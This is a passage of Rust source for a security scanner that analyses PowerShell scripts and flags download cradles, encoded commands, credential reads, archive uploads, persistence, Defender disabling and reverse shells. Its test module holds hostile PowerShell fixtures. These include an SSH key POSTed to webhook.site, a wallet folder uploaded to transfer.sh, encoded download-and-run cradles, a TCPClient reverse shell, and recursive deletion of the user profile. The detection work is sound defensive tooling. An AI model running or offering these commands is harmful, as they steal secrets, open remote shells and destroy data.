        if target.is_empty() {
            return None;
        }
        let ev = FsOp::new(FsKind::Read, target)
            .instrument("Get-Content")
            .output(out)
            .lower();
        self.emit(ev, start, end, &[]);
        None
    }

    /// `Get-ChildItem PATH [-Recurse] [-Filter P]`: a listing (a walk of a
    /// secret folder or the home is a read of it, `FsOp`). PowerShell
    /// drives (`env:`, `HKLM:`, `Cert:`) are not folders.
    fn list_items(
        &mut self,
        toks: &[String],
        start: usize,
        end: usize,
        out: Option<String>,
    ) -> Option<String> {
        let target = self.target_arg(
            toks,
            &["Path", "LiteralPath"],
            &[
                "Path",
                "LiteralPath",
                "Filter",
                "Include",
                "Exclude",
                "Depth",
            ],
        );
        let drive = target.split_once(':').is_some_and(|(d, _)| d.len() > 1);
        if target.is_empty() || drive {
            return None;
        }
        let pattern = param(toks, &["Filter", "Include"]).map(|p| self.resolve(p));
        let mut op = FsOp::new(FsKind::List, target)
            .recursive(has_flag(toks, &["Recurse", "r", "s"]))
            .instrument("Get-ChildItem")
            .output(out);
        op.pattern = pattern;
        let ev = op.lower();
        self.emit(ev, start, end, &[]);
        None
    }

    /// `icacls P /grant WHO:RIGHTS` and `Set-Acl -Path P -AclObject $acl`
    /// (the rule from the file's `FileSystemAccessRule(…)`): a permission
    /// change whose grant `fs_op::mode_tags` reads.
    fn acl(
        &mut self,
        name: &str,
        toks: &[String],
        body: &str,
        start: usize,
        end: usize,
    ) -> Option<String> {
        let lower = body.to_ascii_lowercase();
        let mode = if name == "set-acl" {
            self.acl_rule.clone()
        } else {
            lower.find("/grant").map(|i| {
                body[i..]
                    .trim_start_matches(|c: char| c != ' ')
                    .trim()
                    .to_string()
            })
        };
        let Some(mode) = mode else { return None };
        let target = if name == "set-acl" {
            self.target_arg(toks, &["Path", "LiteralPath"], &["AclObject"])
        } else {
            toks.get(1).map(|t| self.resolve(t)).unwrap_or_default()
        };
        let mut op = FsOp::new(FsKind::Chmod, target).instrument(name);
        op.tags = fs_op::mode_tags(&mode);
        op.mode = Some(mode);
        let ev = op.lower();
        self.emit(ev, start, end, &[Tag::Windows]);
        None
    }

    /// `Set-Content` and friends: a file write (persistence in the Startup folder).
    fn set_content(
        &mut self,
        name: &str,
        toks: &[String],
        body: &str,
        start: usize,
        end: usize,
    ) -> Option<String> {
        let target = self.target_arg(
            toks,
            &["Path", "FilePath", "LiteralPath"],
            &["Value", "Encoding"],
        );
        let persist = system_op::is_startup_folder(&target);
        let ev = FsOp::new(FsKind::Write, target.clone())
            .instrument(name)
            .inputs(self.refs(body))
            .lower();
        let at = self.sink.items.len();
        self.emit(ev, start, end, &[]);
        if persist {
            self.persist(SystemOp::new(SysKind::Autorun, target), start, end);
        }
        let startup = self
            .sink
            .items
            .get(at)
            .is_some_and(|e| e.tags.contains(&Tag::RcFile));
        if startup && !matches!(name, "get-content" | "gc") {
            self.plant(toks, at, start, end);
        }
        None
    }

    /// `Compress-Archive`: files packed into an archive bound for later sends.
    fn compress_archive(&mut self, toks: &[String], start: usize, end: usize) -> Option<String> {
        let dest = param(toks, &["DestinationPath"])
            .map(|t| self.resolve(t))
            .unwrap_or_default();
        let srcp = param(toks, &["Path", "LiteralPath"])
            .map(|t| self.resolve(t))
            .unwrap_or_default();
        let (scope, tags) = super::archive::classify_member(&srcp);
        let b = format!("$archive_{}", file_name(&dest));
        let mut ev = Evidence::new(Op::Archive, A::Write, scope, srcp)
            .tags(tags)
            .object(format!("files packed into {dest}"))
            .instrument("Compress-Archive");
        ev.output = Some(b.clone());
        self.emit(ev, start, end, &[]);
        self.archives.push((file_name(&dest), b));
        None
    }

    /// `Expand-Archive`: an archive extracted.
    fn expand_archive(&mut self, toks: &[String], start: usize, end: usize) -> Option<String> {
        let p = self.target_arg(toks, &["Path", "LiteralPath"], &["DestinationPath"]);
        let (scope, tags) = classify_path(&p);
        let ev = Evidence::new(Op::Archive, A::Write, scope, p)
            .tags(tags)
            .object("archive extracted")
            .instrument("Expand-Archive");
        self.emit(ev, start, end, &[]);
        None
    }

    /// `powershell -Command ..`: PowerShell started again.
    fn powershell_child(
        &mut self,
        name: &str,
        toks: &[String],
        body: &str,
        start: usize,
        end: usize,
    ) -> Option<String> {
        if has_flag(toks, &["c", "Command", "File", "f"]) || HIDDEN.is_match(body) {
            let ev = ExecOp::new(ExecForm::Argv, crate::text::snippet(body, 200))
                .object("PowerShell started")
                .instrument(name)
                .lower();
            self.emit(ev, start, end, &[]);
        }
        None
    }

    fn run(&mut self, target: &str, start: usize, end: usize, runas: Option<&Spelling>) {
        if target.is_empty() {
            return;
        }
        let file = file_name(target.split_whitespace().next().unwrap_or(target));
        let ev = if self.downloads.contains(&file) {
            DownloadRun::program(target)
                .instrument("Start-Process")
                .lower()
        } else {
            ExecOp::new(ExecForm::Argv, target)
                .instrument("Start-Process")
                .lower()
        };
        self.emit(ev, start, end, &[]);
        if let Some(s) = runas {
            let ev = system_op::op_of(s, target)
                .instrument("Start-Process -Verb RunAs")
                .lower();
            self.emit(ev, start, end, &[Tag::Windows]);
        }
    }

    /// A persistence row of `system_op::SPELLINGS` (scheduled tasks,
    /// services, Run keys): lowered, and the segment is classified.
    fn system_op(
        &mut self,
        name: &str,
        toks: &[String],
        body: &str,
        start: usize,
        end: usize,
    ) -> bool {
        let args: Vec<&str> = toks.iter().map(String::as_str).collect();
        match system_op::spelling("powershell", name, &args, body) {
            Some(s) if s.kind.persists() => {
                self.persist(system_op::op_of(s, body), start, end);
                true
            }
            _ => false,
        }
    }

    fn persist(&mut self, mut op: SystemOp, start: usize, end: usize) {
        // A Run value's command follows its key and name: keep it (round 44).
        let cap = if op.kind == SysKind::Autorun {
            400
        } else {
            200
        };
        op.target = crate::text::snippet(&op.target, cap);
        let ev = op.instrument("powershell").lower();
        self.emit(ev, start, end, &[Tag::Windows]);
    }

    /// `(New-Object Net.WebClient).DownloadString(url)` and friends.
    fn webclient(&mut self, base: usize, line: &str, out: Option<String>, dl: &mut Option<String>) {
        for c in WEBCLIENT.captures_iter(line) {
            let m = c.get(0).map(|m| (m.start(), m.end())).unwrap_or((0, 0));
            let method = c.get(1).map(|m| m.as_str()).unwrap_or("");
            let args = c.get(2).map(|m| m.as_str()).unwrap_or("");
            let parts: Vec<String> = args.split(',').map(|a| self.resolve(a.trim())).collect();
            let url = parts.first().cloned().unwrap_or_default();
            let (start, end) = (base + m.0, base + m.1);
            let call = NetCall::http(method.starts_with("Upload"), url.clone())
                .object("data sent with WebClient")
                .instrument(format!("WebClient.{method}"));
            if call.sends() {
                let mut inputs = self.refs(args);
                if method == "UploadFile"
                    && let Some(f) = parts.last()
                {
                    let f = file_name(f);
                    for (a, b) in &self.archives {
                        if *a == f {
                            inputs.push(b.clone());
                        }
                    }
                }
                self.emit(call.inputs(inputs).lower().1, start, end, &[]);
                continue;
            }
            let mut ev = call.object("download with WebClient").lower().1;
            if method.starts_with("DownloadFile") {
                if let Some(f) = parts.get(1) {
                    ev.output = Some(super::file_bind(f));
                    ev.object = format!("download to {f}");
                    self.downloads.insert(file_name(f));
                }
            } else {
                ev.output = out.clone();
            }
            self.emit(ev, start, end, &[]);
            *dl = Some(url.clone());
            let l = line.to_lowercase();
            let iex = l.contains("iex") || l.contains("invoke-expression");
            if iex && method.starts_with("DownloadString") && !self.line_has_download_exec(base) {
                self.download_exec(&url, start, end, Vec::new());
            }
        }
    }

    /// `Invoke-Expression` of `rest` (its argument), fed by `pipe` when it
    /// ends a pipeline; `reported`: a download-then-run step already covers
    /// this run.
    fn invoke_expression(
        &mut self,
        rest: &str,
        pipe: Option<String>,
        reported: bool,
        start: usize,
        end: usize,
    ) {
        let inner_toks = tokens(rest.trim_start_matches('('));
        let inner_name = inner_toks
            .first()
            .map(|t| t.to_lowercase())
            .unwrap_or_default();
        let mut inputs = self.refs(rest);
        inputs.extend(pipe);
        // `iwr … | iex` was reported with the download (a
        // download-then-run step); the code it runs is that download,
        // not a string built here, so no second "dynamic code" step.
        if !reported {
            let ev = ExecOp::new(ExecForm::Code, crate::text::snippet(rest, 200))
                .object("Invoke-Expression of code")
                .instrument("Invoke-Expression")
                .inputs(inputs.clone())
                .lower();
            self.emit(ev, start, end, &[]);
        }
        // A code string known by folding (`iex $c` after `$c = '…'`,
        // `iex ('a' + $b)`) is analysed as PowerShell, as the
        // other languages' eval does.
        if let Some(code) = self.literal_value(rest).filter(|c| !c.trim().is_empty()) {
            let sub = self.src.derived(&code, start, end, Origin::Script);
            super::extract_code(Lang::PowerShell, &sub, self.sink);
        }
        let wrapped_url = if DOWNLOADERS.contains(&inner_name.as_str()) {
            // `iex (iwr URL).Content`: the download is a step too.
            let inner_body = rest.trim_start_matches('(');
            self.command(&inner_name, &inner_toks, inner_body, start, end, None)
        } else if WEBCLIENT.is_match(rest) {
            URL_RE.find(rest).map(|m| self.resolve(m.as_str()))
        } else {
            None
        };
        let var_url = inputs.iter().find_map(|b| self.net_vars.get(b)).cloned();
        if let Some(u) = wrapped_url.or(var_url)
            && !reported
        {
            self.download_exec(&u, start, end, inputs);
        }
    }

    fn line_has_download_exec(&self, base: usize) -> bool {
        let loc = self.src.loc(base, base).start_line;
        self.sink
            .items
            .iter()
            .rev()
            .take(32)
            .any(|e| e.op == Op::DownloadExec && e.location.start_line == loc)
    }

    /// `powershell -EncodedCommand <base64 of UTF-16LE>`.
    fn encoded(&mut self, base: usize, line: &str) {
        let l = line.to_lowercase();
        if !(l.contains("powershell")
            || l.contains("pwsh")
            || l.contains("-enc")
            || l.contains("-e "))
        {
            return;
        }
        let mut found: Vec<(usize, usize, String)> = ENC_CMD
            .captures_iter(line)
            .filter_map(|c| c.get(1))
            .map(|m| (m.start(), m.end(), m.as_str().to_string()))
            .collect();
        // `-EncodedCommand $payload`, the base64 assigned earlier.
        for c in ENC_CMD_VAR.captures_iter(line) {
            let (Some(all), Some(name)) = (c.get(0), c.get(1)) else {
                continue;
            };
            if let Some(v) = self.var(name.as_str()) {
                let v = v.trim();
                if v.len() >= 12
                    && v.bytes()
                        .all(|b| b.is_ascii_alphanumeric() || b"+/=".contains(&b))
                {
                    let s = all.start() + all.as_str().len() - all.as_str().trim_start().len();
                    found.push((s, all.end(), v.to_string()));
                }
            }
        }
        for (ms, me, payload) in found {
            let Some(code) = b64_text(&payload) else {
                continue;
            };
            let (start, end) = (base + ms, base + me);
            let ev = Evidence::new(
                Op::DynamicCode,
                A::CallTool,
                R::Process,
                crate::text::snippet(&code, 200),
            )
            .object("encoded PowerShell command")
            .instrument("-EncodedCommand");
            self.emit(ev, start, end, &[Tag::Encoded, Tag::Obfuscated]);
            let src = self.src;
            let nested = src.derived(&code, start, end, Origin::Decoded);
            super::extract_code(Lang::PowerShell, &nested, self.sink);
        }
    }

    /// `bash -c "…"`, `python -c "…"`, `node -e "…"`, `perl -e "…"` on a
    /// PowerShell line: the code is analysed in its own language.
    fn interpreter_code(&mut self, toks: &[String], start: usize, end: usize) {
        if toks.first().is_some_and(|t| t == "eval") {
            return;
        }
        if let Some((code, i)) = super::interp::code_arg(toks) {
            // `-EncodedCommand` on a PowerShell line is decoded by `encoded`.
            if code == super::interp::Code::EncodedPowerShell {
                return;
            }
            let text = super::interp::code_text(toks, i);
            let src = self.src;
            let sub = src.derived(&text, start, end, Origin::Script);
            super::interp::analyse(code, &sub, self.sink);
        }
    }

    /// `[Convert]::FromBase64String('...')`.
    fn base64_literals(&mut self, base: usize, line: &str, out: Option<String>) {
        for c in FROM_B64.captures_iter(line) {
            let m = c.get(0).map(|m| (m.start(), m.end())).unwrap_or((0, 0));
            let (start, end) = (base + m.0, base + m.1);
            let mut ev = Evidence::new(Op::Decode, A::Infer, R::Memory, "base64")
                .object("base64 decoding")
                .instrument("FromBase64String");
            ev.inputs = c.get(2).map(|a| self.refs(a.as_str())).unwrap_or_default();
            ev.output = out.clone();
            self.emit(ev, start, end, &[Tag::Encoded]);
            let Some(lit) = c.get(1) else { continue };
            let Some(code) = b64_text(lit.as_str()) else {
                continue;
            };
            let lang = Lang::sniff(&code).unwrap_or(Lang::PowerShell);
            let (ls, le) = (base + lit.start(), base + lit.end());
            let src = self.src;
            let nested = src.derived(&code, ls, le, Origin::Decoded);
            super::extract_code(lang, &nested, self.sink);
        }
    }

    fn env(&mut self, base: usize, line: &str, lower: &str, out: Option<String>) {
        if !lower.contains("env:") && !lower.contains("getenvironmentvariables") {
            return;
        }
        if let Some(m) = ENV_DUMP.find(line) {
            let mut ev = Evidence::new(Op::EnvDump, A::Read, R::Credentials, "environment")
                .object("whole environment read")
                .instrument("Env:");
            ev.output = out.clone();
            self.emit(ev, base + m.start(), base + m.end(), &[]);
        }
        if !lower.contains("$env:") {
            return;
        }
        let mut seen = HashSet::new();
        for c in ENV_VAR.captures_iter(line) {
            let name = c.get(1).map(|m| m.as_str()).unwrap_or("");
            if !is_secret_env(name) || !seen.insert(name.to_uppercase()) {
                continue;
            }
            let m = c.get(0).map(|m| (m.start(), m.end())).unwrap_or((0, 0));
            let mut ev = super::concepts::env_read(name, "$env:");
            ev.output = out.clone().or_else(|| Some(format!("$env_{name}")));
            self.emit(ev, base + m.0, base + m.1, &[]);
        }
    }

    fn sockets(&mut self, base: usize, line: &str) {
        for c in TCP_CLIENT.captures_iter(line) {
            let m = c.get(0).map(|m| (m.start(), m.end())).unwrap_or((0, 0));
            let host = c
                .get(1)
                .map(|m| self.resolve(m.as_str()))
                .unwrap_or_default();
            let port = c.get(2).map(|m| m.as_str()).unwrap_or("");
            let target = format!("{host}:{port}");
            let tcp = format!("tcp://{target}");
            let shell = self.has_iex && self.get_stream;
            let call = if shell {
                NetCall::new(NetKind::ShellOverSocket, target)
                    .object("commands from a socket executed")
            } else {
                NetCall::new(NetKind::Connect, target)
            };
            let mut call = call.instrument("TCPClient");
            call.tag_from = Some(tcp);
            self.emit(call.lower().1, base + m.0, base + m.1, &[]);
        }
    }

    /// `[IO.File]::ReadAllText(path)` and friends.
    /// `[IO.File]::ReadAllText/WriteAllText/AppendAllText/Delete/Copy(p, …)`:
    /// the file-system domain (`FsOp`); a write takes the bindings of its
    /// other arguments.
    fn file_apis(&mut self, base: usize, line: &str, out: Option<String>) {
        for c in READ_ALL.captures_iter(line) {
            let m = c.get(0).map(|m| (m.start(), m.end())).unwrap_or((0, 0));
            let method = c.get(1).map(|m| m.as_str()).unwrap_or("");
            let path = c
                .get(2)
                .map(|m| self.resolve(m.as_str().trim()))
                .unwrap_or_default();
            let kind = match method {
                "Delete" => FsKind::Delete,
                m if m.starts_with("Read") || m == "Copy" => FsKind::Read,
                _ => FsKind::Write,
            };
            let rest = line[m.1..].split(')').next().unwrap_or("");
            let op = FsOp::new(kind, path).instrument(format!("File.{method}"));
            let op = match kind {
                FsKind::Read => op.output(out.clone()),
                FsKind::Write => op.inputs(self.refs(rest)),
                _ => op,
            };
            self.emit(op.lower(), base + m.0, base + m.1, &[]);
        }
    }
}

/// `Invoke-Expression` and its alias: the line's text is code
/// (`exec_op::APIS`, row `powershell`, form `Code`).
fn runs_code(name: &str) -> bool {
    form_of("powershell", name) == Some(ExecForm::Code)
}

#[cfg(test)]
mod tests {
    use super::*;
    use base64::Engine;

    fn run(code: &str) -> Vec<Evidence> {
        let src = Src::new("scripts/setup.ps1", code, Origin::Script);
        let mut sink = Sink::default();
        super::super::extract_code(Lang::PowerShell, &src, &mut sink);
        sink.items
    }

    fn find(ev: &[Evidence], op: Op) -> Option<&Evidence> {
        ev.iter().find(|e| e.op == op)
    }

    fn utf16_b64(s: &str) -> String {
        let bytes: Vec<u8> = s.encode_utf16().flat_map(|u| u.to_le_bytes()).collect();
        base64::engine::general_purpose::STANDARD.encode(bytes)
    }

    #[test]
    fn download_cradle_is_download_exec() {
        let ev = run("iex (iwr -UseBasicParsing https://x.example/a.ps1).Content");
        let d = find(&ev, Op::DownloadExec).expect("download exec");
        assert_eq!(d.target, "https://x.example/a.ps1");
        assert!(find(&ev, Op::DynamicCode).is_some());
        assert!(find(&ev, Op::NetFetch).is_some());
        let ev = run("Invoke-WebRequest https://x.example/a.ps1 | Invoke-Expression");
        assert_eq!(
            ev.iter().filter(|e| e.op == Op::DownloadExec).count(),
            1,
            "{ev:#?}"
        );
        // The piped download is the code run: no second, empty
        // "dynamic code" step beside the download-then-run one.
        assert!(find(&ev, Op::DynamicCode).is_none(), "{ev:#?}");
        // An address read from a file: still one download-then-run step.
        let ev = run("$u = Get-Content ./next.txt\nirm $u | iex");
        assert!(find(&ev, Op::DownloadExec).is_some(), "{ev:#?}");
        // Code that is not a download keeps its dynamic-code step.
        let ev = run("Get-Content ./next.ps1 | iex");
        assert!(find(&ev, Op::DynamicCode).is_some(), "{ev:#?}");
        let ev = run("IEX (New-Object Net.WebClient).DownloadString('http://198.51.100.4/p.ps1')");
        let d = find(&ev, Op::DownloadExec).expect("webclient cradle");
        assert!(d.has(Tag::RawIp));
        let ev = run("$c = (Invoke-RestMethod https://x.example/s.ps1)\nInvoke-Expression $c");
        assert!(find(&ev, Op::DownloadExec).is_some(), "{ev:#?}");
    }

    #[test]
    fn release_zip_download_is_only_a_fetch() {
        let ev = run(
            "Invoke-WebRequest -Uri https://github.com/acme/tool/releases/download/v1/tool.zip -OutFile tool.zip",
        );
        assert_eq!(ev.len(), 1, "{ev:#?}");
        let f = &ev[0];
        assert_eq!(f.op, Op::NetFetch);
        assert!(f.has(Tag::ReleaseDownload));
        assert_eq!(
            f.target,
            "https://github.com/acme/tool/releases/download/v1/tool.zip"
        );
    }

    #[test]
    fn encoded_command_is_decoded_and_analysed() {
        let payload =
            utf16_b64("IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.5/x')");
        let ev = run(&format!(
            "powershell -NoP -W Hidden -EncodedCommand {payload}"
        ));
        let dc = ev
            .iter()
            .find(|e| e.op == Op::DynamicCode && e.instrument == "-EncodedCommand")
            .expect("encoded");
        assert!(dc.has(Tag::Encoded));
        assert!(dc.has(Tag::Silenced));
        let inner = find(&ev, Op::DownloadExec).expect("decoded payload analysed");
        assert!(inner.has(Tag::Encoded) && inner.has(Tag::RawIp), "{ev:#?}");
        assert_eq!(inner.origin, Origin::Decoded);
        let ev = run(&format!(
            "pwsh -enc {}",
            utf16_b64("Get-ChildItem Env: | Out-String")
        ));
        assert!(
            find(&ev, Op::EnvDump).is_some_and(|e| e.has(Tag::Encoded)),
            "{ev:#?}"
        );
    }

    #[test]
    fn encoded_command_in_a_variable_is_resolved() {
        let payload =
            utf16_b64("IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.91/w.ps1')");
        let code = format!(
            "$wd = \"{payload}\"\nStart-Process powershell.exe -WindowStyle Hidden -ArgumentList \"-NoP -W Hidden -EncodedCommand $wd\""
        );
        let ev = run(&code);
        let dc = ev
            .iter()
            .find(|e| e.op == Op::DynamicCode && e.instrument == "-EncodedCommand")
            .expect("encoded");
        assert_eq!(dc.location.start_line, 2);
        assert!(dc.snippet.contains("-EncodedCommand $wd"), "{dc:#?}");
        let inner = find(&ev, Op::DownloadExec).expect("decoded payload analysed");
        assert!(inner.has(Tag::RawIp) && inner.has(Tag::Silenced), "{ev:#?}");
        assert_eq!(inner.origin, Origin::Decoded);
        // Split over a concatenation and an append, referenced as ${name}.
        let (a, b) = payload.split_at(20);
        let ev = run(&format!(
            "$p1 = '{a}'\n$P = $p1 + \"{}\"\n$P += '{}'\npwsh -enc ${{p}}",
            &b[..10],
            &b[10..]
        ));
        assert!(find(&ev, Op::DownloadExec).is_some(), "{ev:#?}");
    }

    #[test]
    fn variable_after_e_flag_that_is_not_a_payload_is_ignored() {
        // `-e $pattern` of another tool, and a base64 value that is binary.
        let ev = run("$pattern = 'TODO|FIXME'\nselect-string -e $pattern *.ps1");
        assert!(find(&ev, Op::DynamicCode).is_none(), "{ev:#?}");
        let ev = run("$k = \"3q2+7wABAgMEBQYHCAkKCwwNDg8Q\"\npwsh -enc $k");
        assert!(find(&ev, Op::DynamicCode).is_none(), "{ev:#?}");
        // A value built with an operator is not a literal.
        let ev = run("$x = 'a' -f $y\npwsh -enc $x");
        assert!(
            ev.iter().all(|e| e.instrument != "-EncodedCommand"),
            "{ev:#?}"
        );
    }

    #[test]
    fn post_and_secret_flow() {
        let ev = run(
            "$k = Get-Content \"$env:USERPROFILE\\.ssh\\id_rsa\"\nInvoke-RestMethod -Uri https://webhook.site/x -Method Post -Body $k",
        );
        let r = find(&ev, Op::FileRead).expect("read");
        assert_eq!(r.scope, R::Credentials);
        assert_eq!(r.output.as_deref(), Some("$k"));
        let s = find(&ev, Op::NetSend).expect("send");
        assert!(s.inputs.contains(&"$k".to_string()));
        assert!(s.has(Tag::WebhookHost));
        let ev = run("Get-Content .\\config.json");
        assert_eq!(find(&ev, Op::FileRead).expect("read").scope, R::Codebase);
    }

    #[test]
    fn defender_privilege_delete_persistence() {
        let ev = run(
            "Set-MpPreference -DisableRealtimeMonitoring $true\nAdd-MpPreference -ExclusionPath C:\\Users\nStart-Process cmd.exe -Verb RunAs\nRemove-Item -Recurse -Force $env:USERPROFILE\nschtasks /create /sc minute /tn upd /tr C:\\x.exe\nSet-ItemProperty -Path 'HKCU:\\Software\\Microsoft\\Windows\\CurrentVersion\\Run' -Name u -Value x",
        );
        assert_eq!(ev.iter().filter(|e| e.op == Op::SecurityDisable).count(), 2);
        assert!(find(&ev, Op::Privileged).is_some());
        let d = find(&ev, Op::FileDelete).expect("delete");
        assert!(d.has(Tag::BroadTarget) && d.has(Tag::Recursive), "{d:#?}");
        assert_eq!(
            ev.iter().filter(|e| e.op == Op::Persistence).count(),
            2,
            "{ev:#?}"
        );
        let ev = run("Remove-Item -Recurse -Force .\\build");
        let d = find(&ev, Op::FileDelete).expect("delete");
        assert!(d.has(Tag::OwnArea) && !d.has(Tag::BroadTarget));
        let ev = run("Remove-Item -Recurse -Force C:\\");
        assert!(
            find(&ev, Op::FileDelete)
                .expect("delete")
                .has(Tag::BroadTarget)
        );
    }

    #[test]
    fn comments_are_skipped() {
        let ev = run(
            "# iex (iwr https://x.example/a.ps1)\n<#\nSet-MpPreference -DisableRealtimeMonitoring $true\n#>\nWrite-Host 'hi' # Invoke-Expression $x",
        );
        assert!(ev.is_empty(), "{ev:#?}");
    }

    #[test]
    fn env_archive_upload_and_add_type() {
        let ev = run(
            "Get-ChildItem Env: | Out-File env.txt\n$t = $env:GITHUB_TOKEN\nCompress-Archive -Path $env:APPDATA\\Exodus -DestinationPath w.zip\nInvoke-WebRequest -Uri https://transfer.sh/w.zip -Method Put -InFile w.zip",
        );
        assert!(find(&ev, Op::EnvDump).is_some());
        assert!(find(&ev, Op::EnvRead).is_some_and(|e| e.scope == R::Credentials));
        let a = find(&ev, Op::Archive).expect("archive");
        let s = find(&ev, Op::NetSend).expect("upload");
        assert!(s.inputs.contains(a.output.as_ref().expect("b")), "{s:#?}");
        let ev = run(
            "Add-Type -TypeDefinition $src\n$src = '[DllImport(\"kernel32.dll\")] public static extern IntPtr VirtualAlloc();'",
        );
        assert!(find(&ev, Op::DynamicCode).is_some());
        let ev = run("Add-Type -AssemblyName System.Windows.Forms");
        assert!(ev.is_empty());
    }

    #[test]
    fn from_base64_literal_is_decoded() {
        let b = base64::engine::general_purpose::STANDARD.encode("Invoke-WebRequest -Uri https://paste.example/x -Method Post -Body $env:AWS_SECRET_ACCESS_KEY");
        let ev = run(&format!(
            "$s = [Text.Encoding]::UTF8.GetString([Convert]::FromBase64String('{b}'))"
        ));
        assert!(find(&ev, Op::Decode).is_some());
        assert!(
            find(&ev, Op::NetSend).is_some_and(|e| e.has(Tag::Encoded)),
            "{ev:#?}"
        );
    }

    #[test]
    fn tcp_client_reverse_shell() {
        let ev = run(
            "$client = New-Object System.Net.Sockets.TCPClient('192.0.2.7',4444);$stream = $client.GetStream();$data = 'x'; iex $data",
        );
        assert!(find(&ev, Op::ReverseShell).is_some(), "{ev:#?}");
    }
}
